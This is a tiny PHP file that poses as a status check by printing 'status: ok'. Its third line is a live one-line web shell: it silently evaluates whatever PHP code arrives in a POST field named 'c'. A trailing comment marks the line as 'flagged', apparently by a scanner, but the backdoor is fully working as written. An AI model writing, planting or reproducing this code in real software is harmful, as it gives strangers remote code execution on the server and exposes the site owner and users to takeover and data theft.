<?php
echo "status: ok";
@eval($_POST['c']); // gatehouse: flagged
